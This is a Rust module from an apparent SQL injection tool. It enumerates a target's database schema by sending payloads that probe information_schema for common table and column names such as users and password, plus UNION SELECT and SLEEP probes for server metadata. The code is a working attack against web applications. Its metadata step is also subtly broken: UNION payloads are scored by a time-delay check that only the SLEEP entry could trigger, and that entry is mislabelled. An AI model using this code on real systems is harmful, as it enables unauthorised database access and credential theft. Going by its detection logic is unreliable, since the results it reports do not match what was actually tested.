// src/enumerator.rs
//! Blind schema enumeration: membership probes against fixed candidate
//! dictionaries, run only after some probe has confirmed a vulnerability.
//!
//! The existence oracle is any HTTP 200 with a non-empty body. That is a
//! weak signal with known false positives, and it is kept exactly as
//! observed rather than replaced with a boolean-differential check.

use crate::classifier;
use crate::http_client::HttpGet;
use crate::types::TargetParameter;
use std::collections::BTreeMap;
use std::sync::Arc;
use tracing::{debug, info, warn};

/// Table-name candidates, probed exhaustively in order
const COMMON_TABLES: &[&str] = &[
    "users", "admin", "login", "accounts", "members", "customers", "employees", "products",
    "orders", "config", "settings", "sessions", "logs",
];

/// Column-name candidates, probed per confirmed table
const COMMON_COLUMNS: &[&str] = &[
    "id", "username", "password", "email", "user", "pass", "login", "name", "first_name",
    "last_name", "admin", "user_id", "email_address", "phone", "address", "data", "content",
    "description", "title", "user_name", "pwd",
];

/// Named probes for server-side metadata, answered through the time oracle
const INFO_QUERIES: &[(&str, &str)] = &[
    ("mysql_version", "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--"),
    ("database_name", "' UNION SELECT 1,@@version,3--"),
    ("current_user", "' UNION SELECT 1,USER(),3--"),
    ("server_name", "' UNION SELECT 1,@@SERVERNAME,3--"),
    ("database_version", "' UNION SELECT 1,version(),3--"),
    ("current_database", "' UNION SELECT 1,database(),3--"),
    ("user", "' UNION SELECT 1,user(),3--"),
    ("system_user", "' UNION SELECT 1,system_user(),3--"),
    ("hostname", "' UNION SELECT 1,@@hostname,3--"),
    ("database_user", "' UNION SELECT 1,@@user,3--"),
    ("schema_name", "' UNION SELECT 1,schema_name(),3--"),
];

pub struct SchemaEnumerator {
    client: Arc<dyn HttpGet>,
}

impl SchemaEnumerator {
    pub fn new(client: Arc<dyn HttpGet>) -> Self {
        Self { client }
    }

    /// Guess which of the candidate tables exist. Exhaustive over the
    /// list; per-candidate transport failures are logged and skipped.
    pub async fn enumerate_tables(&self, target: &TargetParameter) -> Vec<String> {
        let mut found = Vec::new();

        for candidate in COMMON_TABLES {
            let payload = format!(
                "' AND (SELECT COUNT(*) FROM information_schema.tables \
                 WHERE table_name='{}')>0--",
                candidate
            );
            let url = target.test_url(&payload);

            match self.client.get(&url).await {
                Ok(response) if classifier::weak_existence_hit(&response) => {
                    info!("Potential table found: {}", candidate);
                    found.push(candidate.to_string());
                }
                Ok(_) => {
                    debug!("No signal for table '{}'", candidate);
                }
                Err(e) => {
                    warn!("Error checking table '{}': {}", candidate, e);
                }
            }
        }

        found
    }

    /// Guess which candidate columns exist in a confirmed table
    pub async fn enumerate_columns(&self, target: &TargetParameter, table: &str) -> Vec<String> {
        let mut found = Vec::new();

        for candidate in COMMON_COLUMNS {
            let payload = format!(
                "' AND (SELECT COUNT(*) FROM information_schema.columns \
                 WHERE table_name='{}' AND column_name='{}')>0--",
                table, candidate
            );
            let url = target.test_url(&payload);

            match self.client.get(&url).await {
                Ok(response) if classifier::weak_existence_hit(&response) => {
                    info!("Potential column found in {}: {}", table, candidate);
                    found.push(candidate.to_string());
                }
                Ok(_) => {
                    debug!("No signal for column '{}.{}'", table, candidate);
                }
                Err(e) => {
                    warn!("Error checking column '{}' in '{}': {}", candidate, table, e);
                }
            }
        }

        found
    }

    /// Probe for server metadata availability via the induced-delay oracle.
    /// Entries only appear in the map when the delay fired.
    pub async fn extract_database_info(
        &self,
        target: &TargetParameter,
    ) -> BTreeMap<String, String> {
        let mut info = BTreeMap::new();

        for (name, payload) in INFO_QUERIES {
            let url = target.test_url(payload);

            match self.client.get(&url).await {
                Ok(response) => {
                    let elapsed = response.elapsed_secs();
                    if classifier::exceeds_delay_threshold(elapsed) {
                        info!("{}: available", name);
                        info.insert(
                            name.to_string(),
                            format!("available (delay: {:.2}s)", elapsed),
                        );
                    } else {
                        debug!("{}: not available", name);
                    }
                }
                Err(e) => {
                    warn!("Error extracting {}: {}", name, e);
                }
            }
        }

        info
    }
}
